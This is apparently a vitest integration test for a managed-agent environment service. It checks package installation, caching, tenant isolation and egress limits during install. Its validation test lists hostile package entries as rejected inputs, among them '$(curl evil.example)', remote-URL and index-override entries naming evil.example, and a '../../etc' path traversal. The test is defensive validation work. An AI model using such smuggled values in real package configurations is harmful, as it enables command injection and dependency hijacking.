import { randomBytes } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type Anthropic from '@anthropic-ai/sdk';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestHost, type TestHost } from '../support/host.js';
import { startPackageRegistry, type PackageRegistry } from '../support/package-registry.js';
import { sdkFor, streamUntil, userText } from './support.js';

const IMAGE = process.env.WORKCELL_IMAGE ?? 'workcell/workspace:0.1.0';

/**
 * An environment's npm and pip packages are installed into a session's workspace before its
 * first turn, from the operator's registries (here one served on loopback), with only those
 * registries open meanwhile; a second session of the environment gets them from the cache,
 * another tenant's environment never does.
 */
describe('Managed Agents environment packages through the official SDK', () => {
  let registry: PackageRegistry;
  let other: Server;
  let otherPort: number;
  const otherPaths: string[] = [];
  let host: TestHost;
  const otherToken = `tok_${randomBytes(16).toString('hex')}`;

  beforeAll(async () => {
    other = createServer((req, res) => {
      otherPaths.push(req.url ?? '');
      res.end('other-reached');
    });
    await new Promise<void>((r) => other.listen(0, '127.0.0.1', r));
    otherPort = (other.address() as AddressInfo).port;
    registry = await startPackageRegistry([
      { name: 'wcfixture', version: '1.0.0', value: 'fixture-ok' },
      // Its tarball lives on a host the environment allows but the install step must not reach.
      {
        name: 'wcprobe',
        version: '1.0.0',
        value: 'probe',
        tarballBase: `http://localhost:${otherPort}`,
      },
    ]);
    host = await startTestHost({
      image: IMAGE,
      egressAllow: `localhost:${registry.port},localhost:${otherPort}`,
      egressAllowPrivate: '127.0.0.1',
      npmRegistry: registry.npmUrl,
      pipIndexUrl: registry.pipUrl,
      tokens: { [otherToken]: `t${randomBytes(4).toString('hex')}` },
    });
  }, 120_000);
  afterAll(async () => {
    await host?.close();
    await registry?.close();
    other?.close();
  });

  const check = [
    `node -e "console.log('npm=' + require('wcfixture').value)"`,
    `python3 -c "import wcfixture; print('pip=' + wcfixture.VALUE)"`,
  ].join('; ');

  async function environmentWithFixture(client: Anthropic): Promise<string> {
    const environment = await client.beta.environments.create({
      name: 'with packages',
      config: {
        type: 'cloud',
        networking: { type: 'limited', allowed_hosts: [`localhost:${otherPort}`] },
        packages: { type: 'packages', npm: ['wcfixture@1.0.0'], pip: ['wcfixture==1.0.0'] },
      },
    });
    if (environment.config.type !== 'cloud') throw new Error('expected a cloud environment');
    expect(environment.config.packages).toEqual({
      type: 'packages',
      apt: [],
      cargo: [],
      gem: [],
      go: [],
      npm: ['wcfixture@1.0.0'],
      pip: ['wcfixture==1.0.0'],
    });
    return environment.id;
  }

  async function firstTurn(
    client: Anthropic,
    environmentId: string,
    command: string,
  ): Promise<{ sessionId: string; events: Awaited<ReturnType<typeof streamUntil>> }> {
    const agent = await client.beta.agents.create({
      name: 'packages',
      model: 'claude-sonnet-4-6',
      tools: [{ type: 'agent_toolset_20260401' }],
    });
    const session = await client.beta.sessions.create({
      agent: agent.id,
      environment_id: environmentId,
    });
    const events = await streamUntil(
      client,
      session.id,
      () =>
        client.beta.sessions.events.send(session.id, {
          events: [
            userText(`MOCK:{"tool": "bash", "input": {"command": ${JSON.stringify(command)}}}`),
          ],
        }),
      undefined,
      180_000,
    );
    return { sessionId: session.id, events };
  }

  const toolResult = (events: Awaited<ReturnType<typeof streamUntil>>): string =>
    JSON.stringify(events.find((e) => e.type === 'agent.tool_result') ?? null);

  it('installs before the first turn, reuses the install for the next session, and never for another tenant', async () => {
    const client = sdkFor(host, host.token);
    const environmentId = await environmentWithFixture(client);

    const first = await firstTurn(client, environmentId, check);
    expect(first.events.some((e) => e.type === 'session.error')).toBe(false);
    expect(toolResult(first.events)).toContain('npm=fixture-ok');
    expect(toolResult(first.events)).toContain('pip=fixture-ok');
    expect(registry.requests).toContain('/wcfixture');
    expect(registry.requests).toContain('/simple/wcfixture/');
    const afterFirst = registry.requests.length;

    const second = await firstTurn(client, environmentId, check);
    expect(toolResult(second.events)).toContain('npm=fixture-ok');
    expect(toolResult(second.events)).toContain('pip=fixture-ok');
    expect(registry.requests.length).toBe(afterFirst);

    // The same list in another tenant's environment is installed from the registry again.
    const otherClient = sdkFor(host, otherToken);
    const otherEnvironment = await environmentWithFixture(otherClient);
    const third = await firstTurn(otherClient, otherEnvironment, check);
    expect(toolResult(third.events)).toContain('npm=fixture-ok');
    expect(toolResult(third.events)).toContain('pip=fixture-ok');
    const afterThird = registry.requests.slice(afterFirst);
    expect(afterThird).toContain('/wcfixture');
    expect(afterThird).toContain('/simple/wcfixture/');
  }, 600_000);

  it('keeps hosts other than the registries closed while installing; a failed install is a session.error and the session goes on', async () => {
    const client = sdkFor(host, host.token);
    const environment = await client.beta.environments.create({
      name: 'probe',
      config: {
        type: 'cloud',
        networking: { type: 'limited', allowed_hosts: [`localhost:${otherPort}`] },
        packages: { npm: ['wcprobe'] },
      },
    });
    const command = `unset NO_PROXY no_proxy; curl -sS http://localhost:${otherPort}/after-install`;
    const { sessionId, events } = await firstTurn(client, environment.id, command);
    const error = events.find((e) => e.type === 'session.error');
    expect(error).toMatchObject({
      type: 'session.error',
      error: { type: 'unknown_error', retry_status: { type: 'exhausted' } },
    });
    expect(JSON.stringify(error)).toContain('package_install_failed: npm install failed');
    // The packument came from the registry; the tarball on the other host was refused.
    expect(registry.requests).toContain('/wcprobe');
    expect(otherPaths.filter((p) => p.includes('wcprobe'))).toEqual([]);
    // After the install step the environment's own hosts are open and the turn ran.
    expect(toolResult(events)).toContain('other-reached');
    expect(otherPaths).toContain('/after-install');

    // The session stays usable: a next turn runs, and the install is not tried again.
    const before = registry.requests.length;
    const next = await streamUntil(client, sessionId, () =>
      client.beta.sessions.events.send(sessionId, {
        events: [userText('MOCK:{"text": "still here"}')],
      }),
    );
    expect(next.some((e) => e.type === 'session.error')).toBe(false);
    expect(JSON.stringify(next)).toContain('still here');
    expect(registry.requests.length).toBe(before);
    const history = [];
    for await (const e of client.beta.sessions.events.list(sessionId)) history.push(e);
    expect(history.filter((e) => e.type === 'session.error')).toHaveLength(1);
  }, 300_000);

  it('answers 400 naming a bad entry or an unserved manager', async () => {
    const client = sdkFor(host, host.token);
    for (const [manager, entry] of [
      ['pip', '--index-url=http://evil.example/simple'],
      ['pip', 'pkg @ https://evil.example/pkg.whl'],
      ['pip', 'pkg; os_name=="posix"'],
      ['npm', 'https://evil.example/x.tgz'],
      ['npm', 'x@file:../y'],
      ['npm', '$(curl evil.example)'],
      ['npm', '../../etc'],
    ] as const) {
      const err = (await client.beta.environments
        .create({ name: 'bad', config: { type: 'cloud', packages: { [manager]: ['ok', entry] } } })
        .catch((e: unknown) => e)) as { status?: number; message?: string };
      expect(err.status, entry).toBe(400);
      expect(err.message).toContain(`config.packages.${manager}[1]`);
      expect(err.message).toContain(entry.slice(0, 8));
    }
    for (const manager of ['apt', 'cargo', 'gem', 'go'] as const) {
      const err = (await client.beta.environments
        .create({ name: 'pk', config: { type: 'cloud', packages: { [manager]: ['x'] } } })
        .catch((e: unknown) => e)) as { status?: number; message?: string };
      expect(err.status).toBe(400);
      expect(err.message).toContain(`config.packages.${manager}`);
    }
  });
});
